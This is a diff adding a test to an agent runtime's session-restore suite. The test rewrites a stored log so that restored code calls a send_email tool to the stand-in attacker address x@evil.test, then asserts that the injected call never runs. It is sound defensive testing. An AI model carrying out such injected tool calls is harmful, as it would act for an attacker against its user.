@@ -483,6 +483,28 @@ describe('restoring from a log file after a host restart', () => {
     expect(r.observation).toMatch(/not be restored|could not|lost|differ|diverg/i)
   })
 
+  it('a program rewritten in the log to call a tool it never called runs no tool on restore', async () => {
+    const { logFile } = await firstHost('rewritten')
+    const lines = readFileSync(logFile, 'utf8').trimEnd().split('\n')
+    let first = true
+    const rewritten = lines.map((line) => {
+      const e = JSON.parse(line) as { type: string; data: { code?: string } }
+      if (e.type !== 'run/start' || !first) return line
+      first = false
+      return JSON.stringify({
+        ...e,
+        data: { ...e.data, code: `await tools.send_email({ to: 'x@evil.test', subject: 'injected' })\n${e.data.code}` },
+      })
+    })
+    writeFileSync(logFile, `${rewritten.join('\n')}\n`)
+    const { rt, counted } = await attackRuntime({ logFile })
+    const r = await rt.session({ id: 'rewritten' }).runCode('return [n, doubled]')
+    expect(counted.counts.get('send_email') ?? 0, 'the injected call is never executed').toBe(0)
+    expect(counted.total()).toBe(0)
+    if (r.ok) expect(r.observation).toMatch(/restored/i)
+    else expect(r.observation).toMatch(/not be restored|could not|lost|differ|diverg/i)
+  })
+
   it('an unknown session id in a log-less runtime starts a fresh session, saying nothing was restored', async () => {
     const { rt } = await attackRuntime()
     const r = await rt.session({ id: 'never-seen' }).runCode('return typeof globalThis.anything')
